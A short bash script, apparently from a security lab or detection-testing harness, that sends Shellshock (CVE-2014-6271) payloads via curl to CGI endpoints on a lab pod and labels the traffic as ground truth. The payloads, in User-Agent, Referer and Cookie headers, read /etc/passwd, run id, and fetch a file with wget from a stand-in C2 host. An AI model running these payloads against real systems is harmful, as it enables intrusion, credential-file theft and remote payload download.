#!/usr/bin/env bash
# Exploitation: Shellshock (CVE-2014-6271) function definitions in CGI request headers.
set -euo pipefail
source "$LAB_DIR/lib.sh"
T=$(lab_pod_ip legacy); lab_assert_target "$T"
ns=$(lab_pod_ns toolbox)
gt_begin shellshock exploitation curl pod:toolbox pod:legacy 'Shellshock "() { :; };" in User-Agent, Referer and Cookie of /cgi-bin requests'
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -A '() { :; }; echo; /bin/bash -c "cat /etc/passwd"' "http://$T:8080/cgi-bin/status.cgi" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -H 'Referer: () { :;}; /bin/sh -c "wget http://c2.evil.lab.test/x -O /tmp/x"' "http://$T:8080/cgi-bin/test.sh" || true
lab_exec "$ns" timeout 10 curl -s -o /dev/null --max-time 3 -b 'session=() { _; } >_[$($())] { id; }' "http://$T:8080/cgi-bin/admin.cgi" || true
gt_end '{"dport":8080}'
